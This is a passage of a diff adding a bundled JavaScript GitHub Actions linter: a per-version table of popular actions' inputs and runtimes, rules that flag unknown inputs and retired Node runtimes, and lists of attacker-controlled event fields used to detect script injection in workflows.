+permission-enterprise-custom-properties-for-organizations -app-id -app_id~ -private-key -private_key~ -skip_token_revoke~", "v3": "node24|+client-id +app-id~ +permission-artifact-metadata +permission-attestations +permission-discussions +permission-merge-queues -app-id!" },
+    "actions/dependency-review-action": { "v1": "node16|repo-token", "v2": "node16|+fail-on-severity +fail-on-scopes +base-ref +head-ref +config-file +allow-licenses +deny-licenses +allow-ghsas", "v3": "node16|+allow-dependencies-licenses +external-repo-token +license-check +vulnerability-check +comment-summary-in-pr +deny-packages +deny-groups +retry-on-snapshot-warnings +retry-on-snapshot-warnings-timeout", "v4": "node20|+warn-only +show-openssf-scorecard +warn-on-openssf-scorecard-level +show-patched-versions" },
+    "actions/deploy-pages": { "v1": "node16|emit_telemetry~ conclusion~ token timeout error_count reporting_interval artifact_name preview", "v2": "node16|-emit_telemetry~ -conclusion~", "v3": "node20|=", "v4": "node20|=", "v5": "node24|=" },
+    "actions/download-artifact": { "v1": "|name! path", "v2": "node12|name path", "v3": "node16|=", "v4": "node20|+artifact-ids +pattern +merge-multiple +github-token +repository +run-id", "v5": "node20|=", "v6": "node20|=", "v7": "node24|=", "v8": "node24|+skip-decompress +digest-mismatch" },
+    "actions/github-script": { "v1": "node12|script! github-token debug user-agent previews result-encoding", "v2": "node12|=", "v3": "node12|=", "v4": "node12|=", "v5": "node12|=", "v6": "node16|+retries +retry-exempt-status-codes", "v7": "node20|+base-url", "v8": "node24|=" },
+    "actions/labeler": { "v2": "node12|repo-token configuration-path sync-labels", "v3": "node12|=", "v4": "node16|+dot +pr-number", "v5": "node20|=", "v6": "node24|=", "v7": "node24|=" },
+    "actions/setup-dotnet": { "v1": "node12|dotnet-version source-url owner config-file include-prerelease", "v2": "node16|+global-json-file", "v3": "node16|+dotnet-quality +cache +cache-dependency-path -include-prerelease", "v4": "node20|=", "v5": "node24|+dotnet-channel +workloads +architecture", "v6": "node24|=" },
+    "actions/setup-go": { "v1": "node12|go-version version~", "v2": "node12|go-version check-latest stable token", "v3": "node16|+go-version-file +cache +cache-dependency-path +architecture -stable", "v4": "node16|=", "v5": "node20|=", "v6": "node24|+go-download-base-url", "v7": "node24|=" },
+    "actions/setup-java": { "v1": "node12|java-version! java-package architecture jdkFile server-id server-username server-password settings-path gpg-private-key gpg-passphrase", "v2": "node12|+distribution! +check-latest +overwrite-settings +cache +job-status", "v3": "node16|+java-version +java-version-file +token +mvn-toolchain-id +mvn-toolchain-vendor -java-version!", "v4": "node20|+cache-dependency-path", "v5": "node24|+distribution +jdk-file +jdkFile~ +set-default +verify-signature +verify-signature-public-key +show-download-progress -distribution! -jdkFile" },
+    "actions/setup-node": { "v1": "node12|always-auth node-version registry-url scope version~", "v2": "node12|+node-version-file +architecture +check-latest +token +cache +cache-dependency-path", "v3": "node16|-version~", "v4": "node20|+mirror +mirror-token", "v5": "node24|+package-manager-cache", "v6": "node24|-always-auth", "v7": "node24|=" },
+    "actions/setup-python": { "v1": "node12|python-version architecture", "v2": "node12|+cache +token +cache-dependency-path", "v3": "node16|=", "v4": "node16|+python-version-file +check-latest +update-environment +allow-prereleases", "v5": "node20|+freethreaded", "v6": "node24|+pip-version +pip-install", "v7": "node24|-pip-install" },
+    "actions/stale": { "v1": "node12|repo-token! stale-issue-message stale-pr-message days-before-stale days-before-close stale-issue-label exempt-issue-label stale-pr-label exempt-pr-label operations-per-run", "v2": "node12|+exempt-issue-labels +exempt-pr-labels +only-labels +debug-only -exempt-issue-label -exempt-pr-label", "v3": "node12|+repo-token +close-issue-message +close-pr-message +days-before-issue-stale +days-before-pr-stale +days-before-issue-close +days-before-pr-close +close-issue-label +close-pr-label +exempt-milestones +exempt-issue-milestones +exempt-pr-milestones +exempt-all-milestones +exempt-all-issue-milestones +exempt-all-pr-milestones +any-of-labels +any-of-issue-labels +any-of-pr-labels +only-issue-labels +only-pr-labels +remove-stale-when-updated +remove-issue-stale-when-updated +remove-pr-stale-when-updated +ascending +skip-stale-pr-message +skip-stale-issue-message +delete-branch +start-date +exempt-assignees +exempt-issue-assignees +exempt-pr-assignees +exempt-all-assignees +exempt-all-issue-assignees +exempt-all-pr-assignees +enable-statistics -repo-token!", "v4": "node12|+exempt-draft-pr +labels-to-add-when-unstale +labels-to-remove-when-unstale +ignore-updates +ignore-issue-updates +ignore-pr-updates -skip-stale-pr-message -skip-stale-issue-message", "v5": "node16|+close-issue-reason +include-only-assigned", "v6": "node16|=", "v7": "node16|=", "v8": "node16|+labels-to-remove-when-stale", "v9": "node20|=", "v10": "node24|+sort-by +only-issue-types" },
+    "actions/upload-artifact": { "v1": "|name! path!", "v2": "node12|name path! if-no-files-found retention-days", "v3": "node16|+include-hidden-files", "v4": "node20|+compression-level +overwrite", "v5": "node20|=", "v6": "node24|=", "v7": "node24|+archive" },
+    "actions/upload-pages-artifact": { "v0": "composite|path retention-days", "v1": "composite|+name", "v2": "composite|=", "v3": "composite|=", "v4": "composite|=", "v5": "composite|+include-hidden-files" },
+    "aws-actions/configure-aws-credentials": { "v1": "node12|audience aws-access-key-id aws-secret-access-key aws-session-token aws-region! mask-aws-account-id role-to-assume web-identity-token-file role-duration-seconds role-session-name role-external-id role-skip-session-tagging", "v2": "node16|+http-proxy +role-chaining +inline-session-policy +managed-session-policies", "v3": "node16|+output-credentials +unset-current-credentials +disable-retry +retry-max-attempts +special-characters-workaround", "v4": "node20|+output-env-credentials +use-existing-credentials", "v5": "node20|+no-proxy +allowed-account-ids +force-skip-oidc +action-timeout-s", "v6": "node24|+aws-profile +overwrite-aws-profile +transitive-tag-keys +custom-tags +sts-endpoint" },
+    "azure/login": { "v1": "node16|creds client-id tenant-id subscription-id enable-AzPSSession environment allow-no-subscriptions audience auth-type", "v2": "node20|=", "v3": "node24|=" },
+    "azure/setup-kubectl": { "v1": "node12|version", "v2": "node12|=", "v3": "node16|=", "v4": "node20|=", "v5": "node24|=" },
+    "cloudflare/wrangler-action": { "v3": "node20|apiToken accountId quiet environment workingDirectory wranglerVersion secrets preCommands postCommands command vars packageManager gitHubToken", "v4": "node24|=" },
+    "codecov/codecov-action": { "v0": "docker|name token file flags", "v1": "node12|token files directory flags aws_curl_args codecov_curl_args commit_parent env_vars fail_ci_if_error file functionalities gcov_args gcov_executable gcov_path_exclude gcov_path_include gcov_prefix gcov_root_dir move_coverage_to_trash name network_filter override_branch override_build override_commit override_pr override_tag path_to_write_report root_dir verbose working-directory xcode_derived_data xcode_package", "v2": "node12|+dry_run +os +slug +url +version -aws_curl_args -codecov_curl_args -gcov_args -gcov_executable -gcov_path_exclude -gcov_path_include -gcov_prefix -gcov_root_dir -network_filter -path_to_write_report -xcode_derived_data -xcode_package", "v3": "node16|+full_report +gcov +gcov_args +gcov_executable +gcov_ignore +gcov_include +network_filter +network_prefix +swift +swift_project +upstream_proxy +xcode +xcode_archive_path +xtra_args", "v4": "node20|+codecov_yml_path +disable_file_fixes +disable_search +disable_safe_directory +exclude +git_service +handle_no_reports_found +job_code +override_build_url +plugin +plugins +report_code +use_legacy_upload_endpoint +use_oidc -full_report -functionalities -gcov -gcov_args -gcov_executable -gcov_ignore -gcov_include -move_coverage_to_trash -override_tag -swift -swift_project -upstream_proxy -xcode -xcode_archive_path -xtra_args", "v5": "composite|+base_sha +binary +disable_telem +force +gcov_args +gcov_executable +gcov_ignore +gcov_include +recurse_submodules +report_type +run_command +skip_validation +swift_project +use_pypi -file -plugin" },
+    "docker/build-push-action": { "v1": "docker|username password registry repository!~ tags tag_with_ref tag_with_sha path dockerfile target always_pull build_args cache_froms labels add_git_labels push", "v2": "node12|add-hosts allow build-args build-contexts builder cache-from cache-to cgroup-parent context file labels load network no-cache outputs platforms pull push secrets secret-files shm-size ssh tags target ulimit github-token", "v3": "node16|+attests +no-cache-filters +provenance +sbom", "v4": "node16|=", "v5": "node20|+annotations +secret-envs", "v6": "node20|+call", "v7": "node24|=" },
+    "docker/login-action": { "v1": "node12|registry username password ecr logout", "v2": "node16|=", "v3": "node20|+scope +registry-auth", "v4": "node24|=" },
+    "docker/metadata-action": { "v1": "node12|images! tag-sha tag-edge tag-edge-branch tag-semver tag-match tag-match-group tag-latest tag-match-latest~ tag-schedule tag-custom tag-custom-only label-custom sep-tags sep-labels github-token", "v2": "node12|images! tags flavor labels sep-tags sep-labels bake-target github-token", "v3": "node12|=", "v4": "node16|+context", "v5": "node20|+images +annotations +sep-annotations -images!", "v6": "node24|=" },
+    "docker/setup-buildx-action": { "v1": "node12|version driver driver-opts buildkitd-flags install use endpoint config config-inline", "v2": "node16|+platforms +append +cleanup", "v3": "node20|+buildkitd-config +buildkitd-config-inline +name +keep-state +cache-binary +config~ +config-inline~ +install~ -install -config -config-inline", "v4": "node24|-config~ -config-inline~ -install~" },
+    "docker/setup-qemu-action": { "v1": "node12|image platforms", "v2": "node16|=", "v3": "node20|+cache-image", "v4": "node24|+reset" },
+    "golangci/golangci-lint-action": { "v0": "node12|version! args github-token!", "v1": "node12|version! args working-directory github-token only-new-issues", "v2": "node12|+version +skip-go-installation +skip-pkg-cache +skip-build-cache -version!", "v3": "node16|+skip-cache +install-mode -skip-go-installation", "v4": "node20|=", "v5": "node20|+skip-save-cache +annotations +cache-invalidation-interval -skip-pkg-cache -skip-build-cache", "v6": "node20|+verify +problem-matchers -annotations", "v7": "node20|=", "v8": "node20|=", "v9": "node24|+version-file +install-only +debug +experimental" },
+    "google-github-actions/auth": { "v0": "node16|project_id workload_identity_provider service_account audience credentials_json create_credentials_file export_environment_variables token_format delegates cleanup_credentials access_token_lifetime access_token_scopes access_token_subject retries backoff backoff_limit id_token_audience id_token_include_email", "v1": "node16|=", "v2": "node20|+universe +request_reason +retries~ +backoff~ +backoff_limit~ -retries -backoff -backoff_limit", "v3": "node24|-retries~ -backoff~ -backoff_limit~" },
+    "google-github-actions/setup-gcloud": { "v0": "node16|version service_account_email service_account_key project_id install_components export_default_credentials credentials_file_path cleanup_credentials", "v1": "node16|skip_install version project_id install_components", "v2": "node20|+skip_tool_cache", "v3": "node24|+cache -skip_tool_cache" },
+    "hashicorp/setup-terraform": { "v1": "node12|cli_config_credentials_hostname cli_config_credentials_token terraform_version terraform_wrapper", "v2": "node16|=", "v3": "node20|=", "v4": "node24|=" },
+    "jamesives/github-pages-deploy-action": { "v4": "node20|ssh-key token branch folder! target-folder commit-message clean clean-exclude dry-run force git-config-name git-config-email repository-name tag single-commit silent" },
+    "peaceiris/actions-gh-pages": { "v2": "docker|emptyCommits keepFiles forceOrphan username useremail commitMessage tagName tagMessage tagOverwrite", "v3": "node16|deploy_key github_token personal_token publish_branch publish_dir destination_dir external_repository allow_empty_commit keep_files force_orphan user_name user_email commit_message full_commit_message tag_name tag_message enable_jekyll disable_nojekyll cname exclude_assets", "v4": "node24|=" },
+    "peter-evans/create-pull-request": { "v1": "node12|token! commit-message author-name author-email committer-name committer-email title body labels assignees reviewers team-reviewers milestone project project-column branch base branch-suffix", "v2": "node12|+token +path +committer +author +draft +request-to-parent -token! -author-name -author-email -committer-name -committer-email", "v3": "node12|+add-paths +signoff +delete-branch +push-to-fork -project -project-column -request-to-parent", "v4": "node16|=", "v5": "node16|+body-path", "v6": "node20|+git-token", "v7": "node20|+branch-token +sign-commits +maintainer-can-modify -git-token", "v8": "node24|=" },
+    "pnpm/action-setup": { "v1": "node12|version! dest bin_dest registry", "v2": "node16|version dest run_install package_json_file standalone", "v3": "node20|=", "v4": "node20|=" },
+    "ruby/setup-ruby": { "v1": "node24|ruby-version rubygems bundler bundler-cache working-directory cache-version self-hosted windows-toolchain token" },
+    "softprops/action-gh-release": { "v0": "node16|body body_path name tag_name draft prerelease files fail_on_unmatched_files repository token target_commitish discussion_category_name generate_release_notes append_body", "v1": "node16|=", "v2": "node20|+preserve_order +working_directory +overwrite_files +previous_tag +make_latest", "v3": "node24|=" },
+    "swatinem/rust-cache": { "v1": "node12|key sharedKey working-directory target-dir cache-on-failure", "v2": "node24|prefix-key shared-key key add-job-id-key add-rust-environment-hash-key env-vars workspaces cache-directories cache-targets cache-on-failure cache-all-crates cache-workspace-crates save-if cache-provider cache-bin lookup-only cmd-format" },
+    "tj-actions/changed-files": { "v1": "composite|separator", "v2": "composite|=", "v3": "composite|=", "v4": "composite|=", "v5": "composite|+files", "v6": "docker|+token", "v7": "docker|=", "v8": "composite|=", "v9": "composite|+files_from_source_file +sha +base_sha", "v10": "composite|+path", "v11": "composite|+since_last_remote_commit", "v12": "composite|=", "v13": "composite|=", "v14": "composite|=", "v15": "composite|+files_separator +files_ignore +files_ignore_separator +files_ignore_from_source_file", "v16": "composite|+use_fork_point", "v17": "composite|=", "v18": "composite|=", "v19": "composite|+quotepath", "v20": "composite|+old_new_separator +old_new_files_separator", "v21": "composite|+include_all_old_new_renamed_files", "v22": "composite|=", "v23": "composite|+diff_relative +dir_names", "v24": "composite|=", "v25": "composite|+json", "v26": "composite|=", "v27": "composite|=", "v28": "composite|+since +until", "v29": "composite|-token", "v30": "composite|-use_fork_point", "v31": "composite|-since_last_remote_commit", "v32": "composite|+target_branch_fetch_depth", "v33": "composite|=", "v34": "composite|+dir_names_max_depth +fetch_depth +max_fetch_depth +since_last_remote_commit -target_branch_fetch_depth", "v35": "composite|+dir_names_exclude_root +json_raw_format +write_output_files +output_dir +match_directories -max_fetch_depth", "v36": "node16|+files_from_source_file_separator +files_yaml +files_yaml_from_source_file +files_yaml_from_source_file_separator +files_ignore_yaml +files_ignore_yaml_from_source_file +files_ignore_yaml_from_source_file_separator +files_ignore_from_source_file_separator +dir_names_exclude_current_dir +dir_names_exclude_root~ +escape_json +output_renamed_files_as_deleted_and_added +recover_deleted_files +recover_deleted_files_to_destination -dir_names_exclude_root -json_raw_format -match_directories", "v37": "node16|+token +api_url -dir_names_exclude_root~", "v38": "node16|+dir_names_include_files +dir_names_include_files_separator +skip_initial_fetch +recover_files +recover_files_separator +recover_files_ignore +recover_files_ignore_separator", "v39": "node20|+fetch_additional_submodule_history +fail_on_initial_diff_error +fail_on_submodule_diff_error", "v40": "node20|+dir_names_deleted_files_include_only_deleted_dirs", "v41": "node20|+safe_output +negation_patterns_first", "v42": "node20|+use_rest_api", "v43": "node20|+matrix", "v44": "node20|=", "v45": "node20|+exclude_submodules +fetch_missing_history_max_retries +use_posix_path_separator +tags_pattern +tags_ignore_pattern", "v46": "node20|=", "v47": "node24|=" } };
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/popular-actions.js
+
+
+const decoded = new Map();
+/** The majors of an action of the table, each with its runtime and input tokens (`name!`, `name~`). */
+function majorsOf(key) {
+    const raw = POPULAR_ACTIONS[key];
+    if (!raw)
+        return undefined;
+    let map = decoded.get(key);
+    if (map)
+        return map;
+    map = new Map();
+    let last = [];
+    for (const [v, entry] of Object.entries(raw)) {
+        const bar = entry.indexOf('|');
+        const using = entry.slice(0, bar);
+        const text = entry.slice(bar + 1);
+        const tokens = text === '=' ? [] : text.split(' ').filter(Boolean);
+        let inputs;
+        if (tokens.length && tokens.every((t) => t.startsWith('+') || t.startsWith('-'))) {
+            const gone = new Set(tokens.filter((t) => t.startsWith('-')).map((t) => t.slice(1)));
+            inputs = [...last.filter((i) => !gone.has(i)), ...tokens.filter((t) => t.startsWith('+')).map((t) => t.slice(1))];
+        }
+        else
+            inputs = text === '=' ? last : tokens;
+        map.set(Number(v.slice(1)), { using, inputs });
+        last = inputs;
+    }
+    decoded.set(key, map);
+    return map;
+}
+const popular_actions_SHA = /^[0-9a-f]{40}$/;
+/**
+ * The major version a `uses:` names: `@v4`, `@v4.1.2`, or for a commit SHA the version in the
+ * comment after it on its line (`@<sha> # v4.2.2`, as Dependabot and Renovate write it).
+ */
+function majorOf(ref, uses, file) {
+    const m = /^v?(\d+)(?:\.\d+){0,2}$/.exec(ref);
+    if (m)
+        return Number(m[1]);
+    if (!popular_actions_SHA.test(ref))
+        return undefined;
+    const line = tokens_lineOf(file, uses.at.line);
+    const c = /#\s*(?:[\w.-]+@)?v?(\d+)(?:\.\d+){0,2}\b/.exec(line.slice(uses.at.column - 1 + uses.value.length).slice(0, 200));
+    return c ? Number(c[1]) : undefined;
+}
+/** The popular action a `uses:` runs, at its major version; undefined when it is not in the table. */
+function popularAction(uses, file) {
+    const value = uses.value.trim();
+    const at = value.lastIndexOf('@');
+    if (at < 0 || value.startsWith('./') || value.startsWith('docker://'))
+        return undefined;
+    const key = value.slice(0, at).toLowerCase();
+    const majors = majorsOf(key);
+    if (!majors)
+        return undefined;
+    const major = majorOf(value.slice(at + 1), uses, file);
+    const entry = major === undefined ? undefined : majors.get(major);
+    if (!entry)
+        return undefined;
+    const inputs = new Map();
+    for (const token of entry.inputs) {
+        const name = token.replace(/[!~]+$/, '');
+        inputs.set(name, { required: /!~?$/.test(token), deprecated: token.endsWith('~') });
+    }
+    return { name: `${value.slice(0, at)}@v${major}`, major: major, using: entry.using, inputs };
+}
+/** The first major of the action that runs on `using` (e.g. the first on node24), if any. */
+function firstMajorOn(uses, using) {
+    const majors = majorsOf(uses.slice(0, uses.lastIndexOf('@')).toLowerCase());
+    for (const [major, entry] of majors ?? [])
+        if (entry.using === using)
+            return major;
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/popular-action-inputs.js
+
+
+const popular_action_inputs_rule = {
+    id: 'PG150',
+    name: 'popular-action-inputs',
+    level: 'warning',
+    description: '`with:` keys that a popular action (actions/checkout, docker/build-push-action, …) does not declare at the major version used, required inputs left out (errors), and deprecated inputs (warnings).',
+    help: "The inputs of about 40 of the most used actions are stored per major version, read from their real `action.yml` (scripts/popular-actions/ regenerates the table). The major is the tag (`@v4`, `@v4.2.1`) or, for a commit SHA, the version in the comment after it (`@<sha> # v4.2.2`). The runner ignores an undeclared input with only a warning in the log, so a misspelt or removed input (`save-always` of actions/cache, inputs renamed between majors) silently takes its default; a required input left out usually fails the step. Input names are case-insensitive. Actions not in the table are not checked.",
+    create(context) {
+        return {
+            step(step, _owner, file) {
+                if (!step.uses)
+                    return;
+                const action = popularAction(step.uses, file.file);
+                if (action)
+                    checkStepInputs(context, file, step, action.inputs, action.name, 'error');
+            }
+        };
+    }
+};
+/* harmony default export */ const popular_action_inputs = (popular_action_inputs_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/outdated-action-runtime.js
+
+
+/** Runtimes GitHub no longer runs as declared: an error when retired, a warning when forced onto a newer one. */
+const OUTDATED = {
+    node12: { level: 'error', why: 'GitHub retired node12 (actions run on a newer Node.js, or fail)' },
+    node16: { level: 'error', why: 'GitHub retired node16 (actions run on a newer Node.js, or fail)' },
+    node20: { level: 'warning', why: 'GitHub runs node20 actions on Node 24 since September 2026' }
+};
+const outdated_action_runtime_rule = {
+    id: 'PG151',
+    name: 'outdated-action-runtime',
+    level: 'warning',
+    description: 'An action whose `runs.using` is a Node.js runtime GitHub retired (node12, node16: error) or forces onto Node 24 (node20: warning), for popular actions at the major used and for local actions.',
+    help: "GitHub retired the node12 and node16 runtimes of JavaScript actions, and since September 2026 runs node20 actions on Node 24. An action written for an older runtime may break on the newer one; update it to a major that declares `using: node24` (the message names it for popular actions, from the stored table of their action.yml). For a local action (`uses: ./path`), update `runs.using` in its action.yml. The major of a SHA-pinned action is read from the comment after the SHA (`# v4.2.2`).",
+    create(context) {
+        const report = (file, node, what, using, fix) => {
+            const outdated = OUTDATED[using.toLowerCase()];
+            if (outdated)
+                context.report(file, node, `${what} runs on ${using}: ${outdated.why}; ${fix}`, outdated.level);
+        };
+        return {
+            step(step, _owner, file) {
+                const uses = step.uses;
+                if (!uses)
+                    return;
+                if (isLocalUses(uses.value)) {
+                    const local = context.project.local(uses.value);
+                    if (local?.kind === 'action' && local.using)
+                        report(file.file, uses, `local action ${local.file.path}`, local.using.value, `set runs.using to node24 in ${local.file.path}`);
+                    return;
+                }
+                const action = popularAction(uses, file.file);
+                if (!action?.using)
+                    return;
+                const next = firstMajorOn(uses.value, 'node24');
+                report(file.file, uses, `"${action.name}"`, action.using, next !== undefined && next > action.major ? `update to v${next} or later (node24)` : 'update it to a version on node24');
+            }
+        };
+    }
+};
+/* harmony default export */ const outdated_action_runtime = (outdated_action_runtime_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/index.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** The rules that read the GitHub API about the actions workflows use (zizmor's online audits). */
+const ONLINE_RULES = [impostor_commit, ref_confusion, ref_version_mismatch, stale_action_refs, archived_uses, known_vulnerable_actions];
+const supply_chain_family = {
+    name: 'supply-chain',
+    title: 'Supply chain',
+    description: 'What a workflow runs that others wrote: actions and images, their pins, versions, inputs and runtimes.',
+    rules: [
+        unpinned_action,
+        mutable_image,
+        superfluous_actions,
+        misfeature,
+        forbidden_uses,
+        use_trusted_publishing,
+        dependabot_cooldown,
+        dependabot_execution,
+        popular_action_inputs,
+        outdated_action_runtime,
+        ...ONLINE_RULES
+    ]
+};
+/* harmony default export */ const supply_chain = (supply_chain_family);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/sources.js
+/**
+ * Where untrusted data comes from and where it becomes code, for PG200 untrusted-input-in-script:
+ * attacker-controlled fields of the event, actions whose inputs are code, and action outputs that
+ * carry attacker-controlled text.
+ */
+/**
+ * Attacker-controlled fields: actionlint's list and GitHub's security hardening guide, and the
+ * text fields (titles, bodies, messages, names, head branches, file paths of pushed commits) that
+ * zizmor's context-capabilities.csv (zizmorcore/zizmor 11bbf7e6, crates/zizmor/data/) rates
+ * "arbitrary" or "structured". Left out on purpose: fields the base repository's maintainers set
+ * (repository, organization, labels, milestones, base refs), ids, node ids, URLs and dates. `*` is
+ * any element of an array.
+ */
+const UNTRUSTED_CONTEXTS = [
+    'github.head_ref',
+    'github.event.review_comment.body',
+    'github.event.answer.body',
+    'github.event.build.error.message',
+    'github.event.check_run.check_suite.head_branch',
+    'github.event.check_run.check_suite.pull_requests.*.head.ref',
+    'github.event.check_run.deployment.description',
+    'github.event.check_run.output.summary',
+    'github.event.check_run.output.text',
+    'github.event.check_run.output.title',
+    'github.event.check_run.pull_requests.*.head.ref',
+    'github.event.check_suite.head_branch',
+    'github.event.check_suite.head_commit.author.email',
+    'github.event.check_suite.head_commit.author.name',
+    'github.event.check_suite.head_commit.committer.email',
+    'github.event.check_suite.head_commit.committer.name',
+    'github.event.check_suite.head_commit.message',
+    'github.event.check_suite.pull_requests.*.head.ref',
+    'github.event.comment.body',
+    'github.event.commit.author.email',
+    'github.event.commit.author.name',
+    'github.event.commit.commit.author.email',
+    'github.event.commit.commit.author.name',
+    'github.event.commit.commit.committer.email',
+    'github.event.commit.commit.committer.name',
+    'github.event.commit.commit.message',
+    'github.event.commit.committer.email',
+    'github.event.commit.committer.name',
+    'github.event.commits.*.added.*',
+    'github.event.commits.*.author.email',
+    'github.event.commits.*.author.name',
+    'github.event.commits.*.committer.email',
+    'github.event.commits.*.committer.name',
+    'github.event.commits.*.message',
+    'github.event.commits.*.modified.*',
+    'github.event.commits.*.removed.*',
+    'github.event.deployment.description',
+    'github.event.deployment_status.description',
+    'github.event.discussion.body',
+    'github.event.discussion.title',
+    'github.event.forkee.default_branch',
+    'github.event.forkee.description',
+    'github.event.head_commit.author.email',
+    'github.event.head_commit.author.name',
+    'github.event.head_commit.committer.email',
+    'github.event.head_commit.committer.name',
+    'github.event.head_commit.message',
+    'github.event.issue.body',
+    'github.event.issue.title',
+    'github.event.merge_group.head_commit.author.email',
+    'github.event.merge_group.head_commit.author.name',
+    'github.event.merge_group.head_commit.committer.email',
+    'github.event.merge_group.head_commit.committer.name',
+    'github.event.merge_group.head_commit.message',
+    'github.event.merge_group.head_ref',
+    'github.event.old_answer.body',
+    'github.event.pages.*.page_name',
+    'github.event.pages.*.summary',
+    'github.event.pages.*.title',
+    'github.event.pull_request.body',
+    'github.event.pull_request.head.label',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.head.repo.default_branch',
+    'github.event.pull_request.head.repo.description',
+    'github.event.pull_request.title',
+    'github.event.release.assets.*.label',
+    'github.event.release.body',
+    'github.event.review.body',
+    'github.event.workflow_run.head_branch',
+    'github.event.workflow_run.head_commit.author.email',
+    'github.event.workflow_run.head_commit.author.name',
+    'github.event.workflow_run.head_commit.committer.email',
+    'github.event.workflow_run.head_commit.committer.name',
+    'github.event.workflow_run.head_commit.message',
+    'github.event.workflow_run.head_repository.description',
+    'github.event.workflow_run.pull_requests.*.head.ref'
+];
+/**
+ * Action inputs that are code (zizmor's list: CodeQL's injection sinks plus its own additions), by
+ * `owner/repo` in lower case.
+ */
+const CODE_INPUTS = new Map([
+    ['8398a7/action-slack', ['custom_payload']],
+    ['actions/github-script', ['script']],
+    ['appleboy/ssh-action', ['script']],
+    ['azure/cli', ['inlineScript']],
+    ['azure/powershell', ['inlineScript']],
+    ['devorbitus/yq-action-output', ['cmd']],
+    ['gautamkrishnar/blog-post-workflow', ['item_exec']],
+    ['imjohnbo/issue-bot', ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text']],
+    ['lucasbento/auto-close-issues', ['issue-close-message']],
+    ['mikefarah/yq', ['cmd']],
+    ['roots/issue-closer-action', ['issue-close-message', 'pr-close-message']],
+    ['sergeysova/jq-action', ['cmd']],
+    ['skitionek/notify-microsoft-teams', ['overwrite']],
+    ['tibdex/backport', ['body_template', 'head_template', 'labels_template', 'title_template']],
+    ['amadevus/pwsh-script', ['script']],
+    ['jannekem/run-python-script-action', ['script']],
+    ['cardinalby/js-eval-action', ['expression']],
+    ['addnab/docker-run-action', ['options', 'run']]
+]);
+/**
+ * Outputs of well-known actions that carry attacker-controlled text, by `owner/repo`: a pattern
+ * on the output name. File names of a pull request (tj-actions/changed-files) and branch names
+ * (tj-actions/branch-names) are chosen by whoever opens it.
+ */
+const TAINTED_OUTPUTS = new Map([
+    ['tj-actions/changed-files', /files|directories/i],
+    ['tj-actions/branch-names', /branch|ref|tag/i]
+]);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-input-in-script.js
+
+
+
+const UNTRUSTED = UNTRUSTED_CONTEXTS.map((p) => p.split('.'));
+/** The untrusted path a chain reads (as written in the list), if any. */
+function untrusted(segments) {
+    const names = segments.map((s) => s.name.toLowerCase());
+    for (const pattern of UNTRUSTED) {
+        if (names.length < pattern.length)
+            continue;
+        if (pattern.every((p, i) => p === '*' || names[i] === '*' || names[i] === p))
+            return pattern.join('.');
+    }
+    return undefined;
+}
+/**
+ * An object or array holding untrusted fields (`github.event`, `github.event.pull_request`, …)
+ * serialized whole with `toJSON(…)`, which pastes every field, attacker text included.
+ */
+function untrustedObject(segments, expression) {
+    const names = segments.map((s) => s.name.toLowerCase());
+    if (names.length < 2 || names.includes('*'))
+        return undefined;
+    const prefix = UNTRUSTED.find((p) => p.length > names.length && names.every((n, i) => p[i] === n));
+    if (!prefix)
+        return undefined;
+    const written = segments.map((s) => s.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join('\\s*\\.\\s*');
+    return new RegExp(`tojson\\s*\\(\\s*${written}\\s*\\)`, 'i').test(expression) ? `${names.join('.')} serialized whole, with untrusted fields such as ${prefix.join('.')}` : undefined;
+}
+/** The untrusted paths the expressions of a token read. */
+function untrustedIn(token) {
+    const found = [];
+    for (const site of expressionSites(token))
+        for (const chain of contextChains(site)) {
+            const path = untrusted(chain.segments);
+            if (path)
+                found.push(path);
+        }
+    return found;
+}
+/** `owner/repo` of a `uses:`, lower case; undefined for local and docker actions. */
+function repoOf(uses) {
+    const m = /^([^./][^/@]*)\/([^/@]+)/.exec(uses?.trim() ?? '');
+    return m ? `${m[1]}/${m[2]}`.toLowerCase() : undefined;
+}
+/**
+ * Why the output `name` of an earlier step carries untrusted data, if it does: a well-known action
+ * output, or a `run:` that writes untrusted data (expanded, or from its `env:`) to $GITHUB_OUTPUT
+ * under that name.
+ */
+function taintedOutput(step, name) {
+    const pattern = TAINTED_OUTPUTS.get(repoOf(step.uses?.value) ?? '');
+    if (pattern?.test(name))
+        return `an output of ${repoOf(step.uses?.value)}, names an attacker chooses`;
+    const run = entryOf(step.token, 'run')?.value;
+    const script = textOf(run);
+    if (!script || !/GITHUB_OUTPUT/.test(script))
+        return undefined;
+    const escaped = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+    if (!new RegExp(`(^|[^\\w-])${escaped}(=|<<)`).test(script))
+        return undefined;
+    const direct = untrustedIn(run);
+    if (direct.length)
+        return `its run: writes ${direct[0]} to $GITHUB_OUTPUT`;
+    for (const [variable, entry] of step.env) {
+        const paths = untrustedIn(entry.value);
+        if (paths.length && new RegExp(`\\$\\{?${variable.replace(/[^\w]/g, '')}\\b`).test(script))
+            return `its run: writes ${paths[0]} (env ${variable}) to $GITHUB_OUTPUT`;
+    }
+    return undefined;
+}
+/**
+ * Why the output `name` of job `id` carries untrusted data: its `outputs:` value expands
+ * untrusted input, or a step output that carries it (one level: a job's outputs name its steps).
+ */
+function taintedJobOutput(workflow, id, name) {
+    const job = workflow.jobsByLowerId.get(id.toLowerCase());
+    const output = job?.outputs.get(name);
+    if (!job || !output)
+        return undefined;
+    for (const site of expressionSites(output.value))
+        for (const chain of contextChains(site)) {
+            const path = untrusted(chain.segments);
+            if (path)
+                return `job "${job.id.value}" outputs ${path}`;
+            const [ctx, step, outputs, stepOutput] = chain.segments.map((s) => s.name);
+            if (ctx !== 'steps' || outputs !== 'outputs' || !stepOutput)
+                continue;
+            const source = job.steps.find((s) => s.id?.value === step);
+            const why = source && taintedOutput(source, stepOutput);
+            if (why)
+                return `job "${job.id.value}" outputs steps.${step}.outputs.${stepOutput}, and step "${step}": ${why}`;
+        }
+    return undefined;
